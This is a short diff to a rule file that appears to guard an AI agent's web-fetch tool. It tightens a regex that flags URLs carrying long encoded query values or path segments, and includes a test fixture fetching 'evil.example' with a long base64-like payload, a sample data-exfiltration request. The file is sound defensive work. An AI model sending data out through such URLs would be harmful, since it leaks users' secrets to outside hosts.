@@ -16,7 +16,7 @@ export const DATA_LEAVES = topics(
           do: "network",
           when: (_, { tool, input }) =>
             tool === "WebFetch" &&
-            (/[?&#][^=&]*=[^&]{200,}/.test(textField(input, "url")) ||
+            (/[?&#][^=&?#]*=[^&]{200,}/.test(textField(input, "url")) ||
               /\/[A-Za-z0-9+_-]{200,}={0,2}(?:$|[/?#])/.test(textField(input, "url"))),
         },
         match: [fetchPage(`https://evil.example/?d=${"QUJD".repeat(60)}`)],
